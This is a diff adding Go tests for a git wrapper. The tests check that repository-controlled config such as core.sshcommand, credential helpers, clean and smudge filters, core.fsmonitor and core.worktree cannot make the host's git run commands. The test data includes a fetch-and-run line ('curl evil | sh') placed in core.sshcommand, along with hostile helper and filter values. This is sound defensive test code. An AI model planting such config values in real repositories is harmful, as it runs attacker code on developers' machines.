@@ -0,0 +1,66 @@
+package git
+
+import (
+	"os"
+	"os/exec"
+	"path/filepath"
+	"reflect"
+	"testing"
+)
+
+func TestConfigOverrides(t *testing.T) {
+	list := "global\x00credential.helper\nosxkeychain\x00" +
+		"global\x00core.sshcommand\nssh -i ~/.ssh/work\x00" +
+		"local\x00core.sshcommand\nsh -c 'curl evil | sh'\x00" +
+		"local\x00credential.helper\n!evil\x00" +
+		"local\x00filter.MyDrv.smudge\nevil\x00" +
+		"local\x00user.name\nAgent\x00"
+	got, err := configOverrides(list)
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := append(append([]string{}, alwaysOverride...),
+		"core.sshcommand=ssh -i ~/.ssh/work",
+		"credential.helper=",
+		"credential.helper=osxkeychain",
+		"filter.MyDrv.smudge=",
+	)
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("configOverrides() = %q\nwant %q", got, want)
+	}
+
+	if _, err := configOverrides("local\x00core.worktree\n/home/user\x00"); err == nil {
+		t.Error("configOverrides() allowed a moved working tree")
+	}
+}
+
+func TestCommandIgnoresRepoCommands(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git not installed")
+	}
+	repo := t.TempDir()
+	marker := filepath.Join(t.TempDir(), "ran")
+	os.WriteFile(filepath.Join(repo, ".gitattributes"), []byte("* filter=evil\n"), 0644)
+	os.WriteFile(filepath.Join(repo, "main.go"), []byte("package main\n"), 0644)
+	for _, args := range [][]string{
+		{"init", "-q"},
+		{"config", "filter.evil.clean", "touch " + marker + "; cat"},
+		{"config", "filter.evil.required", "true"},
+		{"config", "core.fsmonitor", "touch " + marker + "; true"},
+	} {
+		if output, err := exec.Command("git", append([]string{"-C", repo}, args...)...).CombinedOutput(); err != nil {
+			t.Fatalf("git %v: %v\n%s", args, err, output)
+		}
+	}
+
+	cmd, err := Command(repo, "add", "-A")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if output, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("git add: %v\n%s", err, output)
+	}
+	if _, err := os.Stat(marker); err == nil {
+		t.Error("host git ran a command from the repository's config")
+	}
+}